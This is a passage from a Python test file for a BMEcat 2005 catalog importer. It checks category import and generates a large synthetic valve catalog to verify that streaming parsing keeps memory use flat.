    ball = Category.objects.get(code=codes["1.2.3"])
    assert ball.parent.code == "valves"
    assert ball.name == {"de": "Kugelhähne", "en": "Ball valves"}
    assert Category.objects.get(code="valves").name == {"de": "Armaturen", "en": "Valves"}
    assert Category.objects.get(code="orphan").parent is None
    assert apply_categories(source) == {"created": 0, "updated": 0}


# -- memory ----------------------------------------------------------------------------------


def write_large_file(path: Path, count: int) -> None:
    """A BMEcat 2005 file of ``count`` products of about 1.5 kB each, with a group map."""
    product = (
        "<PRODUCT><SUPPLIER_PID>L-{n}</SUPPLIER_PID><PRODUCT_DETAILS>"
        '<DESCRIPTION_SHORT lang="eng">Ball valve {n}</DESCRIPTION_SHORT>'
        '<DESCRIPTION_LONG lang="eng">'
        + "A robust two-way ball valve with full bore. "
        * 12
        + "</DESCRIPTION_LONG>"
        '<INTERNATIONAL_PID type="gtin">4006381333931</INTERNATIONAL_PID></PRODUCT_DETAILS>'
        "<PRODUCT_FEATURES><REFERENCE_FEATURE_SYSTEM_NAME>ETIM-6.0</REFERENCE_FEATURE_SYSTEM_NAME>"
        "<REFERENCE_FEATURE_GROUP_ID>EC011111</REFERENCE_FEATURE_GROUP_ID>"
        "<FEATURE><FNAME>EF000001</FNAME><FVALUE>16</FVALUE><FUNIT>EU570056</FUNIT></FEATURE>"
        "<FEATURE><FNAME>EF000002</FNAME><FVALUE>-10</FVALUE><FVALUE>120</FVALUE><FUNIT>EU570073</FUNIT></FEATURE>"
        "</PRODUCT_FEATURES><PRODUCT_ORDER_DETAILS><ORDER_UNIT>C62</ORDER_UNIT></PRODUCT_ORDER_DETAILS>"
        '<PRODUCT_PRICE_DETAILS><PRODUCT_PRICE price_type="net_list"><PRICE_AMOUNT>12.5</PRICE_AMOUNT>'
        "<PRICE_CURRENCY>EUR</PRICE_CURRENCY></PRODUCT_PRICE></PRODUCT_PRICE_DETAILS></PRODUCT>\n"
    )
    with path.open("w", encoding="utf-8") as out:
        out.write(f'<?xml version="1.0" encoding="UTF-8"?>\n<BMECAT version="2005" xmlns="{NS_2005}">')
        out.write("<HEADER><CATALOG><LANGUAGE>eng</LANGUAGE><CURRENCY>EUR</CURRENCY></CATALOG></HEADER>")
        out.write(
            '<T_NEW_CATALOG><CATALOG_GROUP_SYSTEM><CATALOG_STRUCTURE type="leaf"><GROUP_ID>valves</GROUP_ID>'
        )
        out.write(
            "<GROUP_NAME>Valves</GROUP_NAME><PARENT_ID>0</PARENT_ID></CATALOG_STRUCTURE></CATALOG_GROUP_SYSTEM>\n"
        )
        for n in range(count):
            out.write(product.format(n=n))
        for n in range(count):
            out.write(f"<PRODUCT_TO_CATALOGGROUP_MAP><PROD_ID>L-{n}</PROD_ID>")
            out.write("<CATALOG_GROUP_ID>valves</CATALOG_GROUP_ID></PRODUCT_TO_CATALOGGROUP_MAP>\n")
        out.write("</T_NEW_CATALOG></BMECAT>\n")


def _rss() -> int:
    with open(f"/proc/{os.getpid()}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


def _read_measured(path: Path) -> tuple[int, int, int]:
    """(products, tracemalloc peak, RSS growth sampled while reading)."""
    baseline = _rss()
    tracemalloc.start()
    source = open_bmecat(path)
    count, rss_peak = 0, baseline
    for product in source:
        count += 1
        assert product.categories[0].value == "valves"
        assert product.values["temperature_range"].value == ("-10", "120") and not product.problems
        if count % 500 == 0:
            rss_peak = max(rss_peak, _rss())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    source.close()
    assert source.total_rows == count
    return count, peak, rss_peak - baseline


def test_memory_stays_flat_on_a_large_file(db, tmp_path):
    make_valve_family()
    etim_codes()
    small, large = tmp_path / "small.xml", tmp_path / "large.xml"
    write_large_file(small, 2_000)
    write_large_file(large, 20_000)
    size = large.stat().st_size
    assert size > 25 * 1024 * 1024

    _read_measured(small)  # warm up: code tables, imports, allocator
    small_count, small_peak, _small_rss = _read_measured(small)
    large_count, large_peak, large_rss = _read_measured(large)

    assert (small_count, large_count) == (2_000, 20_000)
    # Ten times the products, not ten times the memory: the tree is cleared as it is read.
    assert large_peak < 2 * small_peak + 1024 * 1024
    assert large_peak < size / 8
    assert large_rss < size / 4  # lxml's own (untraced) memory does not grow with the file
